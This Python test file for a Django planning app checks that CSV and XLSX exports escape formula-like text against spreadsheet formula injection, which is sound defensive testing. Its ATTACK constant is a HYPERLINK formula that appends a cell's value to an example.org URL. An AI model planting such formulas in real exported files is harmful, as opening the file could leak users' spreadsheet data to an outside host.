"""Every CSV and XLSX file fremdrift writes keeps a formula-like text a
text (issue 17: "CSV outputs pass =HYPERLINK(…) through"): a leading
apostrophe in CSV, a string cell with Excel's quote prefix in XLSX;
numbers stay numbers, and a dumped plan folder loads back to the same
values."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command

from fremdrift.base.spreadsheets import csv_cell, unguarded
from fremdrift.planfiles.dumping import plan_dump_folder
from fremdrift.planfiles.services import plan_load
from fremdrift.plans.models import Activity
from fremdrift.registrations.bulk_import import registrations_template
from fremdrift.statistics.models import Observation
from fremdrift.statistics.template_file import observations_template

ATTACK = '=HYPERLINK("https://example.org/?"&A1;"Klik")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-47.3", "-47.3"),  # a number is no formula
        ("+2", "+2"),
        ("-1,5", "-1,5"),
        ("Ada = Bo", "Ada = Bo"),  # only the first character counts
        ("", ""),
        (None, ""),
    ],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text(
    value: str | None, written: str
) -> None:
    assert csv_cell(value) == written
    assert unguarded(csv_cell(value)) == (value or "")


@pytest.fixture
def noted(mini):  # type: ignore[no-untyped-def]
    observation = Observation.objects.filter(indicator__plan=mini).first()
    observation.note = ATTACK
    observation.save(update_fields=["note"])
    return observation


@pytest.mark.django_db
def test_the_observations_command_writes_the_note_as_text(mini, noted) -> None:  # type: ignore[no-untyped-def]
    out = io.StringIO()
    call_command("observations", mini.slug, stdout=out)
    notes = [row["note"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert "'" + ATTACK in notes
    assert ATTACK not in notes


@pytest.mark.django_db
def test_a_dumped_plan_folder_writes_the_note_as_text_and_loads_it_back(
    mini, noted, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    plan_dump_folder(plan=mini, folder=tmp_path)
    text = (tmp_path / "observations.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    plan_load(folder=tmp_path)
    noted.refresh_from_db()
    assert noted.note == ATTACK


def _guarded_cells(content: bytes) -> dict[str, tuple[str, bool]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value: (cell.data_type, cell.quotePrefix)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    }


@pytest.mark.django_db
def test_the_registrations_template_keeps_an_activity_name_a_text(mini) -> None:  # type: ignore[no-untyped-def]
    Activity.objects.filter(plan=mini, slug="lektiecafe").update(name=ATTACK)
    cells = _guarded_cells(registrations_template(plan=mini))
    assert cells == {ATTACK: ("s", True)}


@pytest.mark.django_db
def test_the_observations_template_keeps_an_indicator_name_a_text(mini) -> None:  # type: ignore[no-untyped-def]
    indicator = mini.indicators.first()
    indicator.name = ATTACK
    indicator.save(update_fields=["name"])
    cells = _guarded_cells(observations_template(plan=mini))
    assert cells == {ATTACK: ("s", True)}
